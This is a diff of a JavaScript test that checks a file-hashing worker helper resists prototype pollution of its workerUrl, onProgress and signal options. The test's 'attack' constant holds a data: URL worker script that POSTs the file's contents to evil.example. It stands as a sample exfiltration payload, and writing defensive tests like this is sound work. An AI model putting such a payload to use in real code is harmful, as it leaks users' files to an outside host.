@@ -435,14 +435,20 @@ async function withWorker(fn) {
 test('hashFileInWorker: no control member on Object.prototype is read (a data: workerUrl there starts nothing)', async () => {
   await withWorker(async (started) => {
     const file = new Blob(['a@x.com\n']);
-    // The issue's attack: the worker would have been started from that address and posted the file.
+    // The issue's attack: the worker would have been started from that address and posted the
+    // file. With a control object (the usual call passes one) and without.
     const attack = 'data:text/javascript,self.onmessage=(e)=>fetch("https://evil.example",{method:"POST",body:e.data.file})';
-    assert.equal(await polluted('workerUrl', attack, () => helpers.hashFileInWorker(file, { type: 'email' })), 'ok');
-    assert.deepEqual(started, [`${new URL('../../pkg/lib/hash-worker.js', import.meta.url)} module`]);
+    const own = `${new URL('../../pkg/lib/hash-worker.js', import.meta.url)} module`;
+    for (const control of [{ onProgress: () => {} }, {}, undefined]) {
+      assert.equal(await polluted('workerUrl', attack, () => helpers.hashFileInWorker(file, { type: 'email' }, control)), 'ok');
+    }
+    assert.deepEqual(started, [own, own, own]);
     let calls = 0;
-    assert.equal(await polluted('onProgress', () => calls++, () => helpers.hashFileInWorker(file, { type: 'email' })), 'ok');
+    for (const control of [{}, { signal: new AbortController().signal }, undefined]) {
+      assert.equal(await polluted('onProgress', () => calls++, () => helpers.hashFileInWorker(file, { type: 'email' }, control)), 'ok');
+      assert.equal(await polluted('signal', AbortSignal.abort(), () => helpers.hashFileInWorker(file, { type: 'email' }, control)), 'ok');
+    }
     assert.equal(calls, 0);
-    assert.equal(await polluted('signal', AbortSignal.abort(), () => helpers.hashFileInWorker(file, { type: 'email' })), 'ok');
     // As own members they do act.
     assert.equal(await helpers.hashFileInWorker(file, { type: 'email' }, { onProgress: () => calls++ }), 'ok');
     assert.equal(calls, 1);
